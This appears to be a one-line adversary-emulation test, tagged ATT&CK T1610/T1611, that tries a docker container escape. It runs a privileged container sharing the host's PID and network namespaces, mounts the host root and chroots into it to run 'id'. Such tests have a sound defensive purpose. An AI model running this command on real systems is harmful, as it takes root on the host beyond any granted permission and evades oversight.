# title: A container is asked for that has the host's root; the daemon does not answer
# technique: T1610 T1611
# needs: docker

timeout 5 docker run --rm --privileged --pid=host --net=host -v /:/host alpine chroot /host sh -c id; true
